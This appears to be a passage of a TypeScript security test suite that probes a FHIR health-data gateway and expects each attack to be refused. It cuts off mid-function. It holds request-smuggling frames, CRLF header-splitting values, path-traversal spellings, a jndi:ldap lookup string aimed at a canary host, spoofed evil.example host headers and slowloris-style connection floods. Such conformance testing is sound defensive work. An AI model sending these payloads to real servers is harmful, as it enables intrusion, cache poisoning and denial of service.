// Group H: is every request read in one way only? RFC 9110, RFC 9112, and what a proxy in front might read otherwise.
import { Agent, request as httpRequest } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { signedAssertion, tokenForm } from '../assertions.ts';
import { type Case, type Group, must, mustAll, refusals, type Try } from '../attack.ts';
import { ecdB, ecdC, epd, type Known } from '../cast.ts';
import { bsns, handoff, patients } from '../content.ts';
import { fhirJson, fhirXml, handedOver, push } from '../handovers.ts';
import {
  mustBe,
  mustRefuseAllRaw,
  plain,
  type RawAsk,
  type RawExpected,
  raw,
  requestHead,
  smuggled,
} from '../raw.ts';
import { type Ask, type Seen, type Stage, until } from '../stage.ts';
import { askToken } from './tokens.ts';

type Row = RawAsk & RawExpected & { name: string };
const unknown = '00000000-0000-4000-8000-000000000000';

const framed = (
  name: string,
  headers: readonly string[],
  ...[body, more = {}]: [string, Partial<Row>?]
): Row => ({
  name,
  first: 400,
  parts: [`${requestHead('POST /oauth/token', ...headers)}${body}${smuggled}`],
  ...more,
});

const rawCase = (id: string, title: string, rows: readonly Row[]): Case => ({
  id,
  title,
  run: (stage) => mustRefuseAllRaw(stage, rows),
});

const chunked = 'Transfer-Encoding: chunked';
const lengths = ['5, 5', '+5', '0x5', '5_0', '-1', '5 5', '5;', '', '٥', '1e1', '99999999999999999999'];
const codings = [
  'chunked, identity',
  'identity, chunked',
  'xchunked',
  'chunked, chunked',
  'gzip',
  'chunkedx',
  '\x0bchunked',
  '"chunked"',
  'chunked;q=1',
];

const framing: Case[] = [
  rawCase('H01', 'a length and chunks together', [
    framed('CL.TE', ['Content-Length: 4', chunked], '0\r\n\r\n'),
    framed('TE.CL', [chunked, 'Content-Length: 4'], '0\r\n\r\n'),
    framed('length 0', ['Content-Length: 0', chunked], '0\r\n\r\n'),
    {
      ...framed('on a GET', [], ''),
      parts: [`${requestHead('GET /stu3/metadata', 'Content-Length: 4', chunked)}0\r\n\r\n${smuggled}`],
    },
  ]),
  rawCase('H02', 'lengths that are two, or no plain number', [
    framed('twice equal', ['Content-Length: 5', 'Content-Length: 5'], 'abcde'),
    framed('twice unequal', ['Content-Length: 5', 'Content-Length: 6'], 'abcde'),
    ...lengths.map((length) => framed(`"${length}"`, [`Content-Length: ${length}`], 'abcde')),
  ]),
  rawCase(
    'H03',
    'transfer codings that hide chunks',
    [
      ...codings.map((coding) =>
        framed(coding, [`Transfer-Encoding: ${coding}`], '0\r\n\r\n', { first: [400, 501] }),
      ),
      framed('twice', [chunked, chunked], '0\r\n\r\n'),
      framed('a space before the colon', ['Transfer-Encoding : chunked'], '0\r\n\r\n'),
      framed('a tab before the colon', ['Transfer-Encoding\t: chunked'], '0\r\n\r\n'),
      framed('folded', ['Transfer-Encoding:\r\n chunked'], '0\r\n\r\n'),
      framed('HTTP/1.0 with chunks', [], '', {}),
    ].map((row) =>
      row.name.startsWith('HTTP/1.0')
        ? {
            ...row,
            parts: [
              `POST /oauth/token HTTP/1.0\r\nHost: x\r\n${chunked}\r\nContent-Length: 3\r\n\r\n0\r\n\r\n${smuggled}`,
            ],
          }
        : row,
    ),
  ),
  rawCase('H04', 'chunks that are none', [
    ...[
      'zz\r\nabc\r\n',
      '-1\r\n',
      '5;\r\nab',
      '0x5\r\nabcde\r\n0\r\n\r\n',
      '5 \nabcde\r\n0\r\n\r\n',
      'ffffffffffffffffff\r\n',
      '5\nabcde\n0\n\n',
      '\r\n',
    ].map((body) =>
      framed(JSON.stringify(body.slice(0, 12)), [chunked], `${body}\r\n`, { first: [400, 413, 415] }),
    ),
    framed('an extension of 20 KB', [chunked], `5;${'x'.repeat(20_000)}\r\nabcde\r\n0\r\n\r\n`, {
      first: [400, 413],
    }),
    framed('a line end in an extension', [chunked], '5;a\nb\r\nabcde\r\n0\r\n\r\n', { first: [400, 413] }),
  ]),
  rawCase('H05', 'line ends and folded lines', [
    {
      name: 'bare LF everywhere',
      first: 400,
      parts: [`GET /stu3/metadata HTTP/1.1\nHost: x\n\n${smuggled}`],
    },
    {
      name: 'bare LF between headers',
      first: 400,
      parts: [`GET /stu3/metadata HTTP/1.1\r\nHost: x\nX: y\r\n\r\n${smuggled}`],
    },
    {
      name: 'bare CR',
      first: 400,
      parts: [`GET /stu3/metadata HTTP/1.1\r\nHost: x\rX: y\r\n\r\n${smuggled}`],
    },
    {
      name: 'a folded line',
      first: 400,
      parts: [requestHead('GET /stu3/metadata', 'X-Folded: a', ' b') + smuggled],
    },
    {
      name: 'a space in a name',
      first: 400,
      parts: [requestHead('GET /stu3/metadata', 'Bad Header: x') + smuggled],
    },
    { name: 'no colon', first: 400, parts: [requestHead('GET /stu3/metadata', 'nothing') + smuggled] },
    {
      name: 'a NUL in a value',
      first: 400,
      parts: [requestHead('GET /stu3/metadata', 'X: a\0b') + smuggled],
    },
    { name: 'an empty name', first: 400, parts: [requestHead('GET /stu3/metadata', ': x') + smuggled] },
    { name: 'a space first', first: 400, parts: [` ${smuggled}`] },
  ]),
];

async function strangeHeaders(stage: Stage): Promise<string> {
  const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'];
  const seen = await raw(stage, {
    parts: [requestHead('GET /stu3/metadata', ...names.map((name) => `${name}: x`)), smuggled],
  });
  must(
    seen.statuses.every((status) => [200, 400].includes(status)) && seen.statuses.length > 0,
    `names: ${seen.statuses}`,
  );
  const many = Array.from({ length: 2_000 }, (_, index) => `a${index}: b`);
  const large = [`X: ${'y'.repeat(65_536)}`];
  for (const [name, headers] of Object.entries({ many, large })) {
    const answer = await raw(stage, { parts: [requestHead('GET /stu3/metadata', ...headers)] });
    must([400, 431].includes(answer.statuses[0] ?? 0), `${name}: ${answer.statuses}`);
  }
  const twin = await raw(stage, { parts: [smuggled] });
  must(twin.statuses[0] === 200, 'a plain request');
  must(!('x' in {}) && seen.text.includes('HTTP/1.1'), 'answered');
  return `${seen.statuses[0]}, 431, 431; twin 200`;
}

const paths = (id: string): readonly string[] => [
  `//stu3/Task/${id}`,
  `/stu3//Task/${id}`,
  '/stu3/../r4/$wishes',
  `/stu3/%2e%2e/stu3/Task/${id}`,
  `/stu3/./Task/${id}`,
  `/stu3/Task/%2f..%2f${id}`,
  `/stu3/Task%2f${id}`,
  `/STU3/Task/${id}`,
  `/stu3/task/${id}`,
  `/stu3/Task/${id}/`,
  `/stu3/Task/${id};a=b`,
  `/stu3/Task/${id}%00`,
  `/stu3/Task/${id}%c0%af`,
  `/stu3/Task/${id}%ff`,
  `/stu3/Task/${id}%`,
  `/stu3/Task/${id}%0a`,
  `/stu3/Task/${id}%20`,
  `/stu3/Task/${id}%252f`,
  `/stu3\\Task\\${id}`,
  `/stu3/Task/${id}.json`,
  `/stu3/Task/${id.toUpperCase()}`,
  `/stu3/Task/${id}/_history/1`,
  `/stu3/%54ask/../Task/${id}`,
];

const pathCase: Case = {
  id: 'H09',
  title: 'one reading of each address',
  run: async (stage) => {
    const { taskId } = await handedOver(stage);
    const tries = paths(taskId).map(
      (path): Try =>
        plain(path.replace(taskId, '…'), (at) => at.ask({ path, as: ecdB }), { status: [400, 404] }),
    );
    const seen = await mustAll(stage, tries);
    const escaped = await stage.ask({ path: `/stu3/%54ask/${taskId}`, as: ecdB });
    const foreign = await stage.ask({ path: `/stu3/%54ask/${taskId}`, as: ecdC });
    must(
      escaped.status === 200 && foreign.status === 404,
      `an escaped letter: ${escaped.status}, for C ${foreign.status}`,
    );
    const twin = await stage.ask({ path: `/stu3/Task/${taskId}`, as: ecdB });
    must(twin.status === 200, `twin ${twin.status}`);
    return `${seen.length} spellings 400/404; %54ask is Task for B and nothing for C; twin 200`;
  },
};

const compared = [
  'content-type',
  'etag',
  'cache-control',
  'vary',
  'content-length',
  'x-content-type-options',
];

type Headed = { path: string; as: Known; status: number; isStatus: boolean };

/** The status resource changes between two looks, and has records of its own. */
async function sameAsGet(stage: Stage, { path, as, status, isStatus }: Headed): Promise<void> {
  const get = await stage.ask({ path, as });
  const head = await stage.ask({ path, as, method: 'HEAD' });
  must(get.status === status && head.status === status, `${path}: ${get.status}, HEAD ${head.status}`);
  must(head.body.length === 0, `${path}: HEAD has a body`);
  for (const name of compared.filter((one) => !isStatus || one !== 'content-length')) {
    must(
      head.headers[name] === get.headers[name],
      `${path}: ${name} ${head.headers[name]} / ${get.headers[name]}`,
    );
  }
  const rows = await recordsOf(stage, head.requestId);
  must(isStatus || rows === 1, `${path}: HEAD left ${rows} records`);
}

async function heads(stage: Stage): Promise<string> {
  const { taskId, compositionId, location, task } = await handedOver(stage);
  const document = JSON.parse(
    (await stage.ask({ path: `/stu3/Composition/${compositionId}/$document`, as: ecdB })).text,
  );
  const text = JSON.stringify(document);
  const binary = /Binary\/[0-9a-f-]{36}/.exec(text)?.[0] ?? '';
  must(binary !== '' && task.id === taskId, 'the document leads to a Binary');
  const routes = [
    `/stu3/Task/${taskId}`,
    `/stu3/Composition/${compositionId}`,
    `/stu3/Composition/${compositionId}/$document`,
    `/stu3/${binary}`,
  ];
  for (const [path, who] of [...routes.map((one) => [one, ecdB] as const), [location, epd] as const]) {
    await sameAsGet(stage, { path, as: who, status: 200, isStatus: path === location });
    await sameAsGet(stage, { path, as: ecdC, status: 404, isStatus: path === location });
    must((await stage.ask({ path, method: 'HEAD' })).status === 401, `${path}: HEAD without a token`);
  }
  return '5 routes: same status, headers and record as GET, no body; C 404, nobody 401';
}

export const recordsOf = async (stage: Stage, requestId: string): Promise<number> =>
  (await stage.rows(`select body from audit where body like '%"${requestId}"%'`)).length;

async function preflights(stage: Stage): Promise<string> {
  const { taskId } = await handedOver(stage);
  const star = await raw(stage, { parts: [requestHead('OPTIONS *')] });
  must([204, 405].includes(star.statuses[0] ?? 0), `OPTIONS *: ${star.statuses}`);
  const cors = {
    origin: 'https://evil.example',
    'access-control-request-method': 'GET',
    'access-control-request-headers': 'authorization',
  };
  const answers: Seen[] = [];
  for (const id of [taskId, unknown]) {
    answers.push(await stage.ask({ method: 'OPTIONS', path: `/stu3/Task/${id}`, headers: cors }));
    const get = await stage.ask({ path: `/stu3/Task/${id}`, as: ecdB, headers: cors });
    must(!Object.keys(get.headers).some((name) => name.startsWith('access-control')), 'a CORS header on GET');
  }
  const [known, other] = answers;
  must(
    known && other && known.status === other.status && known.text === other.text,
    'OPTIONS tells which Task exists',
  );
  must(
    [204, 405].includes(known.status) && known.headers.allow === other.headers.allow,
    `OPTIONS: ${known.status}`,
  );
  must(
    answers.every((one) => !Object.keys(one.headers).some((name) => name.startsWith('access-control'))),
    'a CORS header',
  );
  return `${star.statuses[0]}, ${known.status} alike for known and unknown, no CORS headers`;
}

async function methods(stage: Stage): Promise<string> {
  const path = `/stu3/Task/${unknown}`;
  const expected: Record<string, readonly number[]> = {
    TRACE: [405],
    TRACK: [405, 501],
    CONNECT: [405],
    PROPFIND: [405, 501],
    FOO: [501, 405],
    get: [400],
    Get: [400],
    '': [400],
    'GET\t': [400],
    QUERY: [405, 501],
    SEARCH: [405, 501],
  };
  const wrong: string[] = [];
  for (const [method, statuses] of Object.entries(expected)) {
    const target = method === 'CONNECT' ? 'evil.example:443' : path;
    const seen = await raw(stage, { parts: [requestHead(`${method} ${target}`)] });
    const status = seen.statuses[0] ?? 0;
    if (!statuses.includes(status)) wrong.push(`${method}: ${status}`);
    if (status === 405 && !/\r\nallow:/i.test(seen.text)) wrong.push(`${method}: no Allow`);
    if (/gateway\r\n/i.test(seen.text.split('\r\n\r\n')[1] ?? ''))
      wrong.push(`${method}: echoes the request`);
  }
  must(wrong.length === 0, wrong.join(' | '));
  const twin = await raw(stage, { parts: [requestHead('GET /stu3/metadata')] });
  must(twin.statuses[0] === 200, `twin ${twin.statuses}`);
  return `${Object.keys(expected).length} methods 400/405/501; twin 200`;
}

const overrides: Case = {
  id: 'H13',
  title: 'method overrides do not override',
  run: async (stage) => {
    const { location, taskId } = await handedOver(stage);
    for (const name of ['x-http-method-override', 'x-http-method', 'x-method-override']) {
      const seen = await stage.ask({ path: location, as: epd, headers: { [name]: 'DELETE' } });
      must(seen.status === 200 && JSON.parse(seen.text).state === 'in-progress', `${name}: ${seen.status}`);
    }
    const query = await stage.ask({ path: `/stu3/Task/${taskId}?_method=DELETE`, as: ecdB });
    must(query.status === 422 || query.status === 400, `_method: ${query.status}`);
    const post = await stage.ask({
      method: 'POST',
      path: `/stu3/Task/${taskId}`,
      as: ecdB,
      headers: { ...fhirJson, 'x-http-method-override': 'PUT' },
      body: '{}',
    });
    must(post.status === 405, `POST as PUT: ${post.status}`);
    const twin = await stage.ask({ method: 'DELETE', path: location, as: epd });
    must(twin.status === 200, `DELETE itself: ${twin.status}`);
    return 'GET stays GET; twin DELETE 200';
  },
};

const bodies = (): readonly Try[] => {
  const text = JSON.stringify(handoff());
  const sent = (
    name: string,
    headers: Record<string, string>,
    ...[path = '/stu3/$handover', body = text]: [string?, (string | Buffer)?]
  ): Try =>
    plain(name, (stage) => stage.ask({ method: 'POST', path, as: epd, headers, body }), {
      status: [415, 400],
      check: (seen) =>
        /fhir\+json/.test(`${seen.text}${seen.headers.accept}`) || seen.status === 400
          ? undefined
          : 'accepted types are not named',
    });
  return [
    sent('none', {}),
    sent('text/plain', { 'content-type': 'text/plain' }),
    sent('text/json', { 'content-type': 'text/json' }),
    sent(
      'utf-16',
      { 'content-type': 'application/fhir+json; charset=utf-16' },
      undefined,
      Buffer.from(text, 'utf16le'),
    ),
    sent('latin1', { 'content-type': 'application/fhir+json; charset=iso-8859-1' }),
    sent('XML type, JSON body', fhirXml),
    sent('JSON type, XML body', fhirJson, undefined, '<Bundle xmlns="http://hl7.org/fhir"/>'),
    sent('a list', { 'content-type': 'application/fhir+json, text/html' }),
    sent('multipart', { 'content-type': 'multipart/form-data; boundary=x' }),
    sent('form', { 'content-type': 'application/x-www-form-urlencoded' }),
    sent('other FHIR version', { 'content-type': 'application/fhir+json; fhirVersion=4.0' }),
    sent('patch', { 'content-type': 'application/json-patch+json' }),
    sent('ndjson', { 'content-type': 'application/fhir+ndjson' }),
    sent('turtle', { 'content-type': 'text/turtle' }),
    sent('charset twice', { 'content-type': 'application/fhir+json; charset=utf-8; charset=utf-16' }),
  ];
};

const accepts = (taskId: string): readonly Try[] => {
  const nosniff = (seen: Seen): string | undefined => {
    if (/html/.test(seen.headers['content-type'] ?? '')) return 'a page from a FHIR route';
    return seen.headers['x-content-type-options'] === 'nosniff' ? undefined : 'no nosniff';
  };
  const ask = (name: string, more: Partial<Ask> & { query?: string }, status: readonly number[]): Try =>
    plain(
      name,
      (stage) =>
        stage.ask({
          path: `/stu3/Task/${taskId}${more.query ?? ''}`,
          as: ecdB,
          ...(more.headers ? { headers: more.headers } : {}),
        }),
      { status, check: nosniff },
    );
  return [
    ask('text/html', { headers: { accept: 'text/html' } }, [406]),
    ask('xml;q=0 alone', { headers: { accept: 'application/fhir+xml;q=0' } }, [406]),
    ask('*/*;q=0', { headers: { accept: '*/*;q=0' } }, [406]),
    ask('image/png', { headers: { accept: 'image/png' } }, [406]),
    ask('10 KB', { headers: { accept: `${'a/b,'.repeat(2_500)}c/d` } }, [406]),
    ask('_format=text/html', { query: '?_format=text/html' }, [406]),
    ask('_format=<script>', { query: '?_format=%3Cscript%3E' }, [406]),
    ask('_format twice', { query: '?_format=json&_format=xml' }, [400]),
    ask('R4', { headers: { accept: 'application/fhir+json; fhirVersion=4.0' } }, [406]),
  ];
};

const negotiation: Case = {
  id: 'H15',
  title: 'Accept and _format never make a page of a patient',
  run: async (stage) => {
    const { taskId } = await handedOver(stage);
    const seen = await mustAll(stage, accepts(taskId));
    const formats: [string, Record<string, string>, RegExp][] = [
      ['', { accept: '*/*' }, /fhir\+json/],
      ['?_format=xml', { accept: 'application/fhir+json' }, /fhir\+xml/],
      ['', { accept: 'text/html, application/fhir+xml;q=0.5' }, /fhir\+xml/],
      ['', { accept: 'text/html, */*;q=0.1' }, /fhir\+json/],
    ];
    for (const [query, headers, type] of formats) {
      const twin = await stage.ask({ path: `/stu3/Task/${taskId}${query}`, as: ecdB, headers });
      must(
        twin.status === 200 && type.test(twin.headers['content-type'] ?? ''),
        `${query} ${headers.accept}: ${twin.status} ${twin.headers['content-type']}`,
      );
    }
    const huge = await raw(stage, {
      parts: [requestHead(`GET /stu3/Task/${taskId}`, `Accept: ${'a/b,'.repeat(16_000)}`)],
    });
    must([400, 431].includes(huge.statuses[0] ?? 0), `64 KB: ${huge.statuses}`);
    return `${seen.length} times 406/400, never HTML; twins 200`;
  },
};

const languages: Case = {
  id: 'H16',
  title: 'Accept-Language as path, flood and header split',
  run: async (stage) => {
    const values = [
      'xx-'.repeat(2_000),
      '../../nl',
      'nl;q=9',
      '*',
      ',,,,',
      'nl'.repeat(500),
      '%0d%0aX: y',
      '(a+)+$',
      'en;q=0, nl;q=0',
    ];
    const wrong: string[] = [];
    for (const value of values) {
      const seen = await push(stage, '{"resourceType":"Bundle","type":"history"}', {
        headers: { ...fhirJson, 'accept-language': value },
      });
      if (seen.status !== 422 || seen.ms > 1_500)
        wrong.push(`${value.slice(0, 20)}: ${seen.status} in ${seen.ms} ms`);
    }
    must(wrong.length === 0, wrong.join(' | '));
    const split = await raw(stage, {
      parts: [requestHead('GET /stu3/metadata', 'Accept-Language: nl\r\nX-Split: y')],
    });
    must(!/x-split/i.test(split.text), 'the header was split into the answer');
    const dutch = await push(stage, '{"resourceType":"Bundle","type":"history"}', {
      headers: { ...fhirJson, 'accept-language': 'nl' },
    });
    must(/overdracht/.test(dutch.text), 'twin: Dutch');
    return `${values.length} odd values fall back; twin Dutch`;
  },
};

async function requestIds(stage: Stage): Promise<string> {
  const bsn = bsns[0] ?? '';
  const values = [
    'a\tb',
    `\${jndi:ldap://${stage.canary.url.slice(7)}/x}`,
    bsn,
    `x-${bsn}`,
    `x${bsn.slice(0, 3)}-${bsn.slice(3, 6)}-${bsn.slice(6)}`,
    '","level":10,"x":"',
    'ab',
    'é-latin-request',
    'a'.repeat(9_000),
    '__proto__',
  ];
  const touched = stage.canary.contacts.length;
  for (const value of values) {
    const seen = await raw(stage, { parts: [requestHead('GET /stu3/metadata', `X-Request-Id: ${value}`)] });
    const out = /\r\nx-request-id: ([^\r\n]*)/i.exec(seen.text)?.[1] ?? '';
    must(seen.statuses[0] === 200, `${value.slice(0, 20)}: ${seen.statuses}`);
    must(out !== value && /^[A-Za-z0-9._-]{8,64}$/.test(out), `${value.slice(0, 20)} became ${out}`);
  }
  const ansi = await raw(stage, {
    parts: [requestHead('GET /stu3/metadata', 'X-Request-Id: \u001b[31mred')],
  });
  must(!ansi.text.includes('\u001b'), 'an escape sequence came back');
  const split = await raw(stage, {
    parts: [requestHead('GET /stu3/metadata', 'X-Request-Id: a\r\nSet-Cookie: x')],
  });
  must(!/set-cookie/i.test(split.text), 'the header was split');
  const kept = await stage.ask({ path: '/stu3/metadata', headers: { 'x-request-id': 'harmless-0001' } });
  must(kept.headers['x-request-id'] === 'harmless-0001', 'twin: a harmless id is kept');
  must(stage.canary.contacts.length === touched, 'the canary was touched');
  must(
    stage.gateways.every((one) => !one.run.output().includes('jndi')),
    'it stands in a log',
  );
  return `${values.length + 2} odd ids replaced; twin kept`;
}

const expects: Case = {
  id: 'H18',
  title: 'Expect, Upgrade and Connection',
  run: async (stage) => {
    const seen = await raw(stage, {
      parts: [
        requestHead(
          'POST /stu3/$handover',
          'Expect: 100-continue',
          'Content-Type: application/fhir+json',
          'Content-Length: 10',
        ),
      ],
    });
    must(seen.statuses[0] === 401, `100-continue without a token: ${seen.statuses}`);
    const other = await raw(stage, { parts: [requestHead('GET /stu3/metadata', 'Expect: miracle')] });
    must(other.statuses[0] === 417 || other.statuses[0] === 200, `Expect: miracle: ${other.statuses}`);
    const upgrade = await raw(stage, {
      parts: [
        requestHead(
          'GET /stu3/metadata',
          'Connection: Upgrade, HTTP2-Settings',
          'Upgrade: h2c',
          'HTTP2-Settings: AAMAAABk',
        ),
      ],
    });
    must(!upgrade.statuses.includes(101), 'upgraded to HTTP/2');
    const hop = await raw(stage, {
      parts: [
        requestHead(
          `GET /stu3/Task/${unknown}`,
          'Connection: close, Authorization',
          'Authorization: Bearer x',
        ),
      ],
    });
    must([400, 401].includes(hop.statuses[0] ?? 0), `hop by hop: ${hop.statuses}`);
    const early = await raw(stage, {
      parts: [
        requestHead(
          'POST /oauth/token',
          'Content-Type: application/x-www-form-urlencoded',
          'Content-Length: 4',
          'Trailer: X',
        ),
        'a=b&',
        smuggled,
      ],
    });
    must(
      early.statuses[0] === 400 && early.statuses[1] === 200,
      `a request after a refused one: ${early.statuses}`,
    );
    return `${seen.statuses[0]}, ${other.statuses[0]}, ${upgrade.statuses[0]}, ${hop.statuses[0]}; the next request on the connection is itself`;
  },
};

const links: Case = {
  id: 'H19',
  title: 'links keep the configured base',
  run: async (stage) => {
    const hostile = {
      host: 'evil.example',
      'x-forwarded-host': 'evil.example',
      'x-forwarded-proto': 'gopher',
      'x-forwarded-prefix': '/evil',
    };
    const seen = await push(stage, handoff(), { headers: { ...fhirJson, ...hostile } });
    must(
      seen.status === 202 && seen.headers.location?.startsWith(`${stage.baseUrl}/handover/`),
      `${seen.status} ${seen.headers.location}`,
    );
    const path = new URL(seen.headers.location ?? '').pathname;
    const status = await stage.ask({ path, as: epd, headers: hostile });
    must(status.status === 200 && !status.text.includes('evil.example'), 'evil in the status');
    const taskId = JSON.parse(status.text).task.split('/').at(-1);
    const task = await stage.ask({ path: `http://evil.example/stu3/Task/${taskId}`, as: ecdB });
    must(task.status === 200 && !task.text.includes('evil.example'), `absolute form: ${task.status}`);
    const composition = /Composition\/[0-9a-f-]{36}/.exec(task.text)?.[0];
    const document = await stage.ask({ path: `/stu3/${composition}/$document`, as: ecdB, headers: hostile });
    must(document.status === 200 && !document.text.includes('evil.example'), 'evil in the document');
    must(document.text.includes(`"fullUrl":"${stage.baseUrl}/stu3/`), 'fullUrl begins with the base');
    return 'Location, status, fullUrl: the configured base';
  },
};

function drip(stage: Stage, first: string, everyMs: number): Promise<{ closedAfter: number; text: string }> {
  const target = new URL(stage.urls[0] ?? '');
  return new Promise((resolve) => {
    const began = Date.now();
    const socket = connect(Number(target.port), target.hostname, () => socket.write(first));
    let text = '';
    const timer = setInterval(() => socket.write('x'), everyMs);
    socket.on('data', (chunk) => (text += chunk.toString('latin1')));
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(timer);
      resolve({ closedAfter: Date.now() - began, text });
    });
  });
}

const p99 = (all: readonly number[]): number =>
  [...all].sort((one, other) => one - other)[Math.floor(all.length * 0.99)] ?? 0;

const ofNobody = '/stu3/Task/00000000-0000-4000-8000-000000000001';

/** How long others wait: a participant that attacks nobody, as a cap on one participant is meant to hit that one. */
async function times(stage: Stage, count: number): Promise<number> {
  const all: number[] = [];
  for (let index = 0; index < count; index += 1) {
    const seen = await stage.ask({ path: ofNobody, as: ecdC });
    must(seen.status === 404, `others get ${seen.status} ${seen.text.slice(0, 300)}`);
    all.push(seen.ms);
  }
  return p99(all);
}

const batch = 250;

/**
 * Connections that never say a word. In batches that fit the gateway's queue, each followed by a request that is answered once all
 * before it are accepted: what does not fit, the kernel tries again seconds later, and those would count as ours.
 */
async function sayNothing(stage: Stage, count: number): Promise<Socket[]> {
  const target = new URL(stage.urls[0] ?? '');
  const idle: Socket[] = [];
  while (idle.length < count) {
    for (let index = 0; index < batch; index += 1)
      idle.push(
        connect(Number(target.port), target.hostname)
          .on('error', () => undefined)
          .resume(),
      );
    const behind = requestHead('GET /.well-known/smart-configuration', 'Connection: close');
    const seen = await raw(stage, { parts: [behind], gateway: 0, silenceMs: 10_000 });
    must(seen.statuses[0] === 200, `behind ${idle.length} idle connections: ${seen.statuses}`);
  }
  return idle;
}

const isOpen = (socket: Socket): boolean => !socket.destroyed && !socket.readableEnded;

async function slow(stage: Stage): Promise<string> {
  const base = await times(stage, 60);
  const token = await stage.tokenOf(epd);
  const head = requestHead(
    'POST /stu3/$handover',
    `Authorization: Bearer ${token}`,
    'Content-Type: application/fhir+json',
    'Content-Length: 1000',
  );
  const idle = await sayNothing(stage, 1_500);
  const dripping = [
    ...Array.from({ length: 20 }, () => drip(stage, 'GET /stu3/metadata HTTP/1.1\r\nHost: x\r\nX: ', 300)),
    ...Array.from({ length: 20 }, () => drip(stage, head, 300)),
  ];
  await wait(400);
  const during = await times(stage, 60);
  const ended = await Promise.all(dripping);
  const longest = Math.max(...ended.map((one) => one.closedAfter));
  for (let again = 0; again < 100 && idle.some(isOpen); again += 1) await wait(200);
  const open = idle.filter(isOpen).length;
  const after = await times(stage, 60);
  for (const socket of idle) socket.destroy();
  must(longest < 9_000, `a dripping connection lived ${longest} ms`);
  must(
    ended.slice(20).every((one) => /^HTTP\/1\.1 (408|400)/.test(one.text)),
    'a dripping body was answered otherwise',
  );
  must(open === 0, `${open} idle connections still open`);
  const told = [base, during, after].map(Math.round).join(' → ');
  must(during < 2 * Math.max(base, after) + 150, `others waited: ${told} ms`);
  return `headers and bodies cut after ${longest} ms at most, ${idle.length} idle sockets closed; p99 of others ${told} ms`;
}

async function neverReading(stage: Stage): Promise<string> {
  const { compositionId } = await handedOver(stage);
  const token = await stage.tokenOf(ecdB);
  const target = new URL(stage.urls[0] ?? '');
  const ask = requestHead(
    `GET /stu3/Composition/${compositionId}/$document`,
    `Authorization: Bearer ${token}`,
  );
  const sockets = Array.from({ length: 20 }, () => {
    const socket = connect(Number(target.port), target.hostname, () => socket.write(ask.repeat(20)));
    socket.on('error', () => undefined).pause();
    return socket;
  });
  await wait(200);
  const during = await times(stage, 30);
  await wait(7_000);
  for (const socket of sockets) socket.destroy();
  must(during < 3_000, `others waited ${during} ms`);
  // they count as under way until their connection is gone, and no longer
  const isBack = async (): Promise<boolean> =>
    (await stage.ask({ path: ofNobody, as: ecdB, gateway: 0 })).status === 404;
  await until(isBack, 'the participant that did not read may ask again');
  return `20 sockets that never read; others p99 ${Math.round(during)} ms; their own participant served afterwards`;
}

const queries = (taskId: string): readonly Try[] => {
  const ask = (name: string, query: string, status: readonly number[] = [400]): Try =>
    plain(name, (stage) => stage.ask({ path: `/stu3/Task/${taskId}?${query}`, as: ecdB }), { status });
  return [
    ask('a[] many', Array.from({ length: 200 }, () => 'a[]=1').join('&')),
    ask('a[] 100 000', 'a[]=1&'.repeat(2_600), [400, 414, 431]),
    ask('nested 500 deep', `a${'[b]'.repeat(500)}=1`, [400]),
    ask('__proto__', '__proto__[x]=1'),
    ask('constructor', 'constructor[prototype][x]=1'),
    ask('patient twice', 'patient=A&patient=B'),
    ask('patient with an ampersand inside', 'patient=A%26patient=B', [400, 422]),
    ask('an unknown parameter', 'patient=A', [400, 422]),
    ask('an escaped double', '_format=json&%5fformat=json'),
    ask('a bad escape', '_format=%zz'),
    ask('a name with a NUL', '%00=1'),
    ask('60 parameters', Array.from({ length: 60 }, (_, index) => `a${index}=1`).join('&')),
  ];
};

const queryCase: Case = {
  id: 'H22',
  title: 'queries that are read in two ways',
  run: async (stage) => {
    const { taskId } = await handedOver(stage);
    const seen = await mustAll(stage, queries(taskId));
    const twin = await stage.ask({ path: `/stu3/Task/${taskId}?_format=json`, as: ecdB });
    must(twin.status === 200, `twin ${twin.status}`);
    return `${seen.length} refused; twin 200`;
  },
};

const forms: Case = {
  id: 'H23',
  title: 'a form of 50 000 parameters',
  run: refusals({
    tries: () => [
      plain('99 KB', (stage) => askToken(stage, 'a=&'.repeat(33_000)), {
        status: [400, 413],
        ms: 200,
      }),
      plain('31 KB', (stage) => askToken(stage, 'a&'.repeat(15_000)), {
        status: [400, 413],
        ms: 100,
      }),
      plain(
        'on _search',
        (stage) =>
          stage.ask({
            method: 'POST',
            path: '/stu3/Patient/_search',
            as: ecdB,
            headers: { 'content-type': 'application/x-www-form-urlencoded' },
            body: 'a=&'.repeat(33_000),
          }),
        { status: [400, 404, 405, 413, 415, 422] },
      ),
    ],
    twin: () =>
      plain('a small form', (stage) => askToken(stage, tokenForm(signedAssertion(stage.baseUrl))), {
        status: 200,
      }),
  }),
};

const ofTheInside = /node_modules|\bat .*:\d+:\d+|sqlite|postgres|\bexpress\b|127\.0\.0\.1/i;
const demanded: readonly [string, RegExp][] = [
  ['cache-control', /^no-store$/],
  ['strict-transport-security', /max-age=\d{7,}/],
  ['x-content-type-options', /^nosniff$/],
  ['content-security-policy', /frame-ancestors 'none'/],
];

function tellsTooMuch({ status, headers, text }: Seen): string[] {
  const own = `${status} ${text.slice(0, 60)}`;
  const missing = demanded.filter(([name, value]) => !value.test(headers[name] ?? ''));
  const wrong = missing.map(([name]) => `${own}: ${name} ${headers[name]}`);
  if (headers['x-powered-by'] ?? headers.server) wrong.push(`${own}: names its maker`);
  const told = status >= 400 ? ofTheInside.exec(text)?.[0] : undefined;
  return told === undefined ? wrong : [...wrong, `${own}: tells of the inside: ${told.slice(0, 80)}`];
}

async function answersTellNothing(stage: Stage): Promise<string> {
  const { taskId, location } = await handedOver(stage);
  const answers = [
    await stage.ask({ path: '/nowhere' }),
    await stage.ask({ path: '/stu3/Task/x' }),
    await stage.ask({ path: '/stu3/Task/x', as: ecdB }),
    await stage.ask({ path: '/stu3/Task?x=1', as: ecdB }),
    await push(stage, '{'),
    await push(stage, '{"resourceType":"Bundle","type":"history"}'),
    await stage.ask({ method: 'PATCH', path: `/stu3/Task/${taskId}`, as: ecdB }),
    await stage.ask({ path: `/handover/${unknown}`, as: epd }),
    await askToken(stage, 'x'),
    await stage.ask({ path: `/stu3/Task/${taskId}`, as: ecdB }),
    await stage.ask({ path: location, as: epd }),
    await stage.ask({ path: location, as: epd, headers: { accept: 'text/html' } }),
  ];
  const wrong = answers.flatMap(tellsTooMuch);
